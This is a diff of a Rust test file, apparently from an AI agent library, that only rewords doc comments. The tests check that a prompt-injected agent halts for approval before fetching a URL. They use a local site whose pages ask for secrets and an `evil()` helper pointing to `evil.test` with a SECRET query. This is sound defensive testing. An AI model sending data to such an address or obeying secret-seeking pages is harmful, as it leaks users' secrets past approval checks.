@@ -1,4 +1,4 @@
-//! What a model that was talked into something can send out, and what it can still do without asking.
+//! The means of a manipulated model to send data out, and its remaining abilities without approval.
 
 use crate::bounded::tokio;
 use std::io::Error;
@@ -24,7 +24,8 @@ use crate::http::{PUBLIC, Server, http, page, redirect};
 
 mod planned;
 
-/// A site whose pages ask for what is secret, and the hosts it is asked by: any, all of them at one address.
+/// A site whose pages ask for what is secret, and the hosts it is asked by: any, all of them at one
+/// address.
 struct Web {
     server: Server,
     asked: Hosts,
@@ -64,7 +65,7 @@ impl Web {
         format!("http://docs.test:{}{path}", self.server.port)
     }
 
-    /// Where a model that was talked into it would send what it knows.
+    /// Returns the address to which a manipulated model would send data.
     fn evil(&self) -> String {
         format!("http://evil.test:{}/?q=SECRET", self.server.port)
     }
@@ -96,7 +97,8 @@ fn agent(model: ScriptedModel, tools: impl IntoTools) -> Agent {
     Agent::builder(model).tools(tools.into_tools()).build().unwrap()
 }
 
-/// Shows that a run stopped before the one fetch that nobody approved of, and returns it as it is kept.
+/// Shows that a run stopped before the one fetch that nobody approved of, and returns it as it is
+/// kept.
 #[track_caller]
 fn stopped(web: &Web, outcome: toolbox::agent::RunOutcome) -> Paused {
     assert_eq!(outcome.reason, StopReason::ApprovalNeeded, "{:?}", outcome.history);
